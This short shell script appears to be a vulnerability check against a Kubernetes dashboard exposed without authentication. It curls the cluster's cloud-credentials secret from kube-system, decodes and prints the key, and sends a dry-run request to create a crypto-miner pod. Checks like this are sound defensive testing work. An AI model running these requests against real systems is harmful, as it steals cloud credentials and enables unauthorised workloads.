# A stranger on the network with a browser, or curl. No token, no password, no kubectl.
# Exit 0: the dashboard handed something out, or would have started a pod.
dashboard="http://$NODE_ADDRESS:30080"
won=no

echo "reading the cloud credentials of the cluster:"
if secret=$(curl -sSf "$dashboard/api/v1/secrets/cloud-credentials?namespace=kube-system"); then
  echo "$secret" | jq -r '.data.key | @base64d'
  won=yes
fi

echo "starting a pod (dry run):"
if curl -sSf -X POST -H 'Content-Type: application/json' \
    -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"miner","namespace":"default"},"spec":{"containers":[{"name":"miner","image":"example.com/miner:1"}]}}' \
    "$dashboard/api/v1/raw?dryRun=All"; then
  won=yes
fi

[ "$won" = yes ]
